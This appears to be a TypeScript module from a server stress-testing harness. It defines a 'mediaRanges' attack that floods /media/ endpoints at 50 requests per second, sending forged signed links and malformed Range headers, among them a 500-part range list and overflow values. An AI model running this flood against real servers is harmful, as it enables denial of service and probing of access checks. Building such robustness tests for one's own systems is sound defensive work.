import { randomUUID } from "node:crypto"
import { type Attack, flood, requester } from "./Attack.js"

const perSecond = 50
const ranges = [
  "bytes=0-",
  "bytes=-1",
  "bytes=99999999999999999999-",
  `bytes=${Array.from({ length: 500 }, (_, n) => `${n}-${n}`).join(",")}`,
  "bytes=1-0",
  "items=0-1"
]

/** Files with forged links, by HEAD and with ranges of all kinds. */
export const mediaRanges: Attack = (context) => {
  const send = requester(context)
  let next = 0
  return flood(context, perSecond, () =>
    send({
      method: next % 2 === 0 ? "HEAD" : "GET",
      path: `/media/${randomUUID()}?expires=9999999999&signature=${"0".repeat(64)}`,
      headers: { range: ranges[next++ % ranges.length] as string }
    })
  )
}
